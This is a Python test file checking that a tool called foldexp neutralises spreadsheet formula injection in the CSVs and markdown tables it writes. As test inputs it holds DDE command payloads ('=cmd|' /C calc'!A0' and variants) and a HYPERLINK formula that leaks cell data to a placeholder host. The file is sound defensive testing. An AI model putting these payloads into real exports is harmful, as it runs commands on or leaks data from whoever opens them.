"""Outputs safe to open in a spreadsheet (issue 39, row 13).

Before: an input ``=cmd|' /C calc'!A0`` or ``=HYPERLINK(...)`` given to ``foldexp predict``,
or written in a sweep's ``overrides.yaml`` read by ``foldexp report``, was copied verbatim into
the CSVs (a spreadsheet runs it as a formula), and the ``|`` broke ``report.md``'s table. Now
every CSV foldexp writes puts a quote before a text cell that a spreadsheet would run
(``foldexp.data.cells``), and markdown tables escape ``|``.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from foldexp.analysis.report import run_report
from foldexp.cli import main
from foldexp.data.cells import markdown_cell, spreadsheet_cell, spreadsheet_frame
from foldexp.data.commands import markdown_table
from foldexp.train.artifacts import write_json
from foldexp.train.curves import write_metrics_csv

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (CALC, "'" + CALC),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),  # a number written as text gives only itself
        ("+2", "+2"),
        ("CCO", "CCO"),
        ("", ""),
        (-3.0, -3.0),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(cell: object, safe: object) -> None:
    assert spreadsheet_cell(cell) == safe


def test_markdown_cells_keep_their_table() -> None:
    assert markdown_cell("a|b\nc") == "a\\|b c"
    table = markdown_table(pd.DataFrame({"x|y": ["=1|2"]}))
    assert all(line.count("|") - line.count("\\|") == 3 for line in table.splitlines())


def test_predict_writes_formulas_as_text(
    text_classifier: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    inputs = tmp_path / "in.csv"
    with open(inputs, "w", newline="") as f:
        csv.writer(f).writerows([["text"], [CALC], [LINK], ["a good film"], ["-1.5"]])
    out = tmp_path / "out.csv"
    assert main(["predict", str(text_classifier), str(inputs), "--output", str(out)]) == 0
    with open(out, newline="") as f:
        cells = [row[0] for row in csv.reader(f)]
    assert cells == ["text", "'" + CALC, "'" + LINK, "a good film", "-1.5"]
    assert main(["predict", str(text_classifier), str(inputs)]) == 0  # to stdout alike
    printed = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert [row[0] for row in printed] == cells


def _sweep_run(root: Path, name: str, overrides: list[str], accuracy: float) -> None:
    run = root / name
    (run / ".hydra").mkdir(parents=True)
    write_json(run / "results.json", {"test_accuracy": accuracy, "experiment": "x"})
    (run / ".hydra" / "overrides.yaml").write_text("".join(f"- {o}\n" for o in overrides))


def test_report_writes_a_sweeps_overrides_as_text(tmp_path: Path) -> None:
    _sweep_run(tmp_path, "0", [CALC], 0.5)
    _sweep_run(tmp_path, "1", [LINK, "seed=2"], 0.75)
    _sweep_run(tmp_path, "2", ["model.hidden_size=8"], 0.25)
    run_report([tmp_path], metric="test_accuracy")
    for name in ("report.csv", "summary.csv"):
        frame = pd.read_csv(tmp_path / name, dtype=str, keep_default_na=False)
        overrides = set(frame["overrides"])
        assert {"'" + CALC, "'" + LINK, "model.hidden_size=8"} <= overrides, name
    for name in ("report.md", "summary.md"):
        lines = (tmp_path / name).read_text().splitlines()
        bars = {line.count("|") - line.count("\\|") for line in lines}
        assert len(bars) == 1, (name, lines)  # every row has the header's columns
        assert any("\\|' /C calc" in line for line in lines)


def test_metrics_csv_writes_a_text_cell_as_text(tmp_path: Path) -> None:
    """A history row from a crafted checkpoint (``=cmd|calc!A0``) is copied as text."""
    path = write_metrics_csv(tmp_path / "metrics.csv", [{"epoch": 1, "loss": -0.5, "note": CALC}])
    frame = pd.read_csv(path, dtype=str)
    assert frame.loc[0, "note"] == "'" + CALC and frame.loc[0, "loss"] == "-0.5"
    assert list(spreadsheet_frame(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]
